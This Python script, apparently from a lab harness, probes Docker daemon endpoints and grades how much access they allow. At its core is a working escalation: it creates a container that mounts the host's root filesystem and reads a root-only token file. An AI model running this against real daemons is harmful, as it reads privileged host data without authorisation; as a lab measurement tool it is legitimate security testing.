"""Measures how much of a Docker daemon the machine gets on which this runs, by trying.

A line on standard input is a JSON list: the targets ["tcp://…", …], a file on the daemon's machine
that only root can read, and paths below which the API may be. `tcp://ADDRESS:PORT as NAME` is what
a server of that name shows there. The answer on standard output is a list with an object per
target: the level, what was seen, and what a container read from that file. The harness sends
reach.py with it. It must run on Python 3.9.
"""

import json
import os
import re
import socket
import ssl
import subprocess
import sys
import threading
import time
from http import HTTPStatus

from reach import NoHTTP, connect, connected, context, request, ssh

#: Seconds a target has to say anything; and where that takes it long: over ssh, which starts two
#: programs over there, and for the handshake of TLS where it has hung up on HTTP.
SILENCE, LONG_SILENCE = 3, 30
#: Seconds a request has once the daemon has spoken; four containers may start at once, emulated.
WORK = 120
NOT_ALLOWED = (HTTPStatus.UNAUTHORIZED, HTTPStatus.FORBIDDEN)
#: A proxy may let through what docker itself asks, which names a version.
USUAL_PREFIXES = ("", "/v1.40")
#: What a server says of a client's certificate, or of its lack.
ALERTS = re.compile(
    "alert.((bad|unsupported|revoked).certificate|certificate.(required|expired|unknown|revoked)"
    "|unknown.ca|handshake.failure|access.denied|decrypt.error)",
    re.IGNORECASE,
)
#: What comes of TLS with a server that speaks none.
NO_TLS = re.compile("wrong.version.number|packet.length|record.layer", re.IGNORECASE)
IMAGE = "/usr/local/share/dockerd-lab/busybox.tar"


class Gets(Exception):
    """Ends a measurement: the level that was reached, and what showed it."""


def measure(target):
    """The level of one target, with its evidence, the token that was read, and the seconds."""
    seen = {"target": target, "token": ""}
    started = time.monotonic()
    try:
        seen["token"] = read_token(target, first_answer(target))
        seen["level"], seen["evidence"] = "full-control", "a container read " + TOKEN_FILE
    except Gets as end:
        seen["level"], seen["evidence"] = end.args
    except Exception as error:  # an odd target must not cost the others their answers
        seen["level"], seen["evidence"] = "unclear", repr(error)
    seen["seconds"] = round(time.monotonic() - started, 2)
    return seen


def first_answer(target):
    """Find out whether a target speaks HTTP or HTTPS; return its TLS context or None."""
    if target.startswith("ssh:"):
        over_ssh(target)
        return None
    try:
        first = connect(target, SILENCE)
    except socket.timeout:
        raise Gets("filtered", f"no answer within {SILENCE} s") from None
    except OSError as error:
        raise Gets("refused", os.strerror(error.errno) if error.errno else str(error)) from None
    limit = SILENCE
    end = time.monotonic() + limit
    for make, made in ((None, first), (context, None)):
        tls = make and make()
        try:
            status, body = request(target, tls, "GET", "/_ping", end=end, made=made)
        except socket.timeout:
            raise Gets("filtered", f"connected, but no answer within {limit} s") from None
        except OSError as error:
            if tls is not None:
                raise refused_tls(target, error) from None
            if not isinstance(error, NoHTTP):
                limit = LONG_SILENCE  # some servers hang up on HTTP where they want HTTPS
                end = time.monotonic() + limit
            continue
        if b"SSL certificate" in body:  # nginx, to a client without one
            raise Gets("tls-required", f"HTTP {status}: {text(body)}")
        if not (b"HTTPS" in body and status == HTTPStatus.BAD_REQUEST):
            return tls
        limit = WORK  # it has spoken, and TLS takes an emulated machine seconds
        end = time.monotonic() + limit
    raise Gets("refused", f"answers as if HTTPS were HTTP: {text(body)}")


def refused_tls(target, error):
    """What a failed HTTPS request tells: only words about certificates make it `tls-required`."""
    if isinstance(error, ConnectionRefusedError):
        return Gets("refused", "hung up, and is gone")
    if NO_TLS.search(str(error)):
        return Gets("refused", f"neither HTTP nor HTTPS: {error}")
    if not ALERTS.search(str(error)):
        # A server that has hung up may have said why; who sends nothing hears it.
        try:
            with connected(target, context(), time.monotonic() + SILENCE) as made:
                made.recv(1)
        except ssl.SSLError as alert:
            error = alert
        except OSError as none:
            error = none
    level = "tls-required" if ALERTS.search(str(error)) else "unclear"
    return Gets(level, f"TLS: {error!r}")


def read_token(target, tls):
    """Run a container that reads the token from the daemon machine's root filesystem."""
    prefix, status, body = listed(target, tls)
    answers = is_list(status, body)
    said = f"GET {prefix}/containers/json: HTTP {status}: {text(body)}"
    refusal = ("auth-required", said) if status in NOT_ALLOWED else ("refused", "no API: " + said)
    name = "dockerd-lab-probe-" + os.urandom(4).hex()
    status = None
    try:
        status, body = create(target, tls, prefix, name)
        must(status, HTTPStatus.CREATED, "creating a container", body)
        container = prefix + "/containers/" + name
        started, body = work(target, tls, "POST", container + "/start")
        must(started, HTTPStatus.NO_CONTENT, "starting a container", body)
        work(target, tls, "POST", container + "/wait")
        printed, body = work(target, tls, "GET", container + "/logs?stdout=1&stderr=1")
        must(printed, HTTPStatus.OK, "reading a container's output", body)
        return text(body)
    except Gets as end:
        guarded = refusal[0] == "auth-required"
        if answers or status == HTTPStatus.CREATED or (guarded and end.args[0] == "unclear"):
            raise
        raise Gets(*refusal) from None  # it shows no list and does nothing: no daemon, or guarded
    finally:
        if answers or status in (HTTPStatus.CREATED, None):
            remove(target, tls, f"{prefix}/containers/{name}", status)


def remove(target, tls, container, created):
    """Remove the container; `created` is what making it was answered with, if at all."""
    status, body = work(target, tls, "DELETE", container + "?force=1")
    done = status in (HTTPStatus.NO_CONTENT, HTTPStatus.NOT_FOUND, *NOT_ALLOWED)
    # Who refuses to create a container may refuse to delete it, in whatever words.
    refused = created is not None and is_refusal(created) and is_refusal(status)
    if not done and not refused:
        raise Gets("unclear", f"{container} may be left: HTTP {status}: {text(body)}")


def listed(target, tls):
    """The prefix at which the containers are listed, with status and body; or the best answer."""
    tried = []
    for prefix in (*USUAL_PREFIXES, *PREFIXES):
        status, body = work(target, tls, "GET", prefix + "/containers/json")
        if is_list(status, body):
            return prefix, status, body
        tried.append((prefix, status, body))
    return next((one for one in tried if one[1] in NOT_ALLOWED), tried[0])


def create(target, tls, prefix, name):
    """Create the container; where the daemon has not its image, that is brought along."""
    wanted = {
        "Image": "busybox:latest",
        "Cmd": ["cat", "/host" + TOKEN_FILE],
        "Tty": True,
        "HostConfig": {
            "Binds": ["/:/host:ro"],
            "NetworkMode": "none",
            "UsernsMode": "host",
            "Runtime": "runc",  # the configured default may be one that this machine has not
            "LogConfig": {"Type": "json-file"},
        },
    }
    path = f"{prefix}/containers/create?name={name}"
    status, body = work(target, tls, "POST", path, wanted)
    if status == HTTPStatus.NOT_FOUND and b"image" in body.lower() and os.path.exists(IMAGE):
        with open(IMAGE, "rb") as image:
            loaded, said = work(target, tls, "POST", prefix + "/images/load", image.read())
        must(loaded, HTTPStatus.OK, "loading an image", said)
        status, body = work(target, tls, "POST", path, wanted)
    return status, body


def is_list(status, body):
    """Whether an answer is the API's list of containers."""
    try:
        return status == HTTPStatus.OK and isinstance(json.loads(body), list)
    except ValueError:
        return False


def is_refusal(status):
    """Whether a request was refused, by the daemon or by whoever guards it."""
    return HTTPStatus.BAD_REQUEST <= status < HTTPStatus.INTERNAL_SERVER_ERROR


def must(status, wanted, what, body):
    """Raise Gets where a request was not granted: refused by whoever guards it, or gone wrong."""
    if status != wanted:
        level = "read-only" if is_refusal(status) else "unclear"
        raise Gets(level, f"{what}: HTTP {status}: {text(body)}")


def work(target, tls, method, path, body=None):
    """A request to a daemon that has spoken; one that fails now tells nothing of the level."""
    try:
        return request(target, tls, method, path, body, end=time.monotonic() + WORK)
    except OSError as error:
        raise Gets("unclear", f"{method} {path}: {error!r}") from None


def over_ssh(target):
    """Raise Gets where ssh does not lead to a daemon, with the level that its words tell."""
    try:
        tried = subprocess.run(
            ssh(target, "docker", "version", "--format", "{{.Server.Version}}"),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            timeout=LONG_SILENCE,
        )
    except subprocess.TimeoutExpired:
        raise Gets("filtered", f"ssh: no answer within {LONG_SILENCE} s") from None
    if tried.returncode == 0:
        return
    said = "ssh: " + text(tried.stderr)
    if "Permission denied (" in said:
        raise Gets("auth-required", said)
    raise Gets("filtered" if "timed out" in said else "refused", said)


def text(body):
    """The start of an answer on one line."""
    return " ".join(body.decode(errors="replace").split())[:200]


def measure_all(targets):
    """What was measured of each target, eight at a time."""
    found = {}
    turn = threading.Semaphore(8)

    def one(target):
        with turn:
            found[target] = measure(target)

    threads = [threading.Thread(target=one, args=[target]) for target in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [found[target] for target in targets]


if __name__ == "__main__":  # tests import it
    for line in sys.stdin:
        TARGETS, TOKEN_FILE, PREFIXES = json.loads(line)
        print(json.dumps(measure_all(TARGETS)), flush=True)
